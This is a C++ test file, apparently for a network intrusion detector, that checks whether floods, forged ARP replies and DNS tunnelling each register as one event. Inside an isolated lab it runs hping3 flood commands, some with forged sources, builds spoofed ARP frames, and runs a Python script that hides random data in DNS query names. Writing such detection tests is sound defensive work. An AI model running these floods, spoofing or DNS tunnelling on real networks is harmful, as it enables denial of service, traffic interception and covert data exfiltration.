// SPDX-License-Identifier: Apache-2.0
// Floods by hping3, forged ARP, data in DNS names.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <thread>

#include "watch_program.hpp"

namespace sonde::test {
namespace {

struct Flood {
  std::string name;
  std::string options;  ///< of hping3
  std::string kind;
  bool forged = false;
};

void PrintTo(const Flood& flood, std::ostream* out) { *out << flood.name; }

class Floods : public testing::TestWithParam<Flood> {};

// At least until it is found: a busy machine needs longer for three seconds of a flood.
TEST_P(Floods, AreOneEvent) {
  const Pair pair;
  // Forged sources are answered, into nowhere; who does not forge keeps its kernel from resetting what it opened.
  pair.right.run("ip route add default via 10.9.0.1");
  pair.left.run(
      "nft 'add table ip t; add chain ip t o { type filter hook output priority 0; }; "
      "add rule ip t o tcp flags & rst == rst drop'");
  const Process server(pair.right, {"nc", "-l", "-k", "-p", "80"});
  Watching watching(pair.right, {"-i", "veth1"});
  const auto least = std::chrono::steady_clock::now() + std::chrono::seconds{6};
  Process hping(pair.left, {"bash", "-c", "exec hping3 --flood " + GetParam().options + " 10.9.0.2"});
  EXPECT_TRUE(watching.wait_for_events(GetParam().kind, 1));
  std::this_thread::sleep_until(least);  // what goes on stays one event
  hping.signal(SIGTERM);
  hping.wait();
  const auto watched = watching.end();
  EXPECT_TRUE(watched.balanced()) << watched.errors;
  const auto events = watched.started();
  ASSERT_EQ(events.size(), 1U) << watched.output;
  EXPECT_EQ(events[0]["kind"], GetParam().kind);
  EXPECT_THAT(events[0]["whom"].dump(), testing::HasSubstr("10.9.0.2"));
  if (!GetParam().forged) {
    EXPECT_THAT(events[0]["who"].dump(), testing::HasSubstr("10.9.0.1"));
  }
  EXPECT_EQ(watched.events.back()["state"], "ended");
}

INSTANTIATE_TEST_SUITE_P(Kinds, Floods,
                         testing::Values(Flood{"syn", "-S -p 80", "syn-flood"},
                                         Flood{"forged", "-S -p 80 --rand-source", "syn-flood", true},
                                         Flood{"udp", "--udp -p 9999 -d 100", "udp-flood"},
                                         Flood{"icmp", "--icmp", "icmp-flood"}),
                         [](const auto& flood) { return flood.param.name; });

Bytes arp_reply(std::uint8_t mac_end, std::uint8_t address_end) {
  const Bytes mac = {2, 0, 0, 0, 9, mac_end};
  const auto sender = mac + Bytes{10, 9, 0, address_end}, target = Bytes{2, 0, 0, 0, 9, 2, 10, 9, 0, 2};
  auto frame = ethernet({.type = ether_arp}, Bytes{0, 1, 8, 0, 6, 4, 0, 2} + sender + target);
  std::ranges::copy(mac, frame.begin() + 6);
  return frame;
}

TEST(Spoofing, OneAddressOfTwoMacsIsOneEvent) {
  const Pair pair;
  Watching watching(pair.right, {"-i", "veth1"});
  for (int i = 0; i < 20; ++i) {
    send_frame(pair.left, "veth0", arp_reply(1, 77));
    send_frame(pair.left, "veth0", arp_reply(9, 77));
    std::this_thread::sleep_for(std::chrono::milliseconds{150});
  }
  EXPECT_TRUE(watching.wait_for_events("arp-spoof", 1));
  const auto watched = watching.end();
  ASSERT_EQ(watched.started().size(), 1U) << watched.output;
}

// A client that sends what it has in the names of its questions, as dnscat and iodine do.
TEST(Tunnels, DataInNamesIsOneEvent) {
  const Pair pair;
  Watching watching(pair.left, {"-i", "veth0"});
  run_together(pair.left, {R"(python3 - <<'END'
import os, socket, struct, base64, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(400):
    data = base64.b32encode(os.urandom(70)).decode().lower().rstrip('=')
    labels = [data[:56], data[56:], 't', 'example', 'com']
    name = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\0'
    s.sendto(struct.pack('>6H', i, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', 16, 1), ('10.9.0.2', 53))
    time.sleep(0.01)
END)"});
  EXPECT_TRUE(watching.wait_for_events("dns-tunnel", 1));
  const auto watched = watching.end();
  ASSERT_EQ(watched.started().size(), 1U) << watched.output;
  EXPECT_THAT(watched.started()[0].dump(), testing::HasSubstr("example.com"));
}

}  // namespace
}  // namespace sonde::test
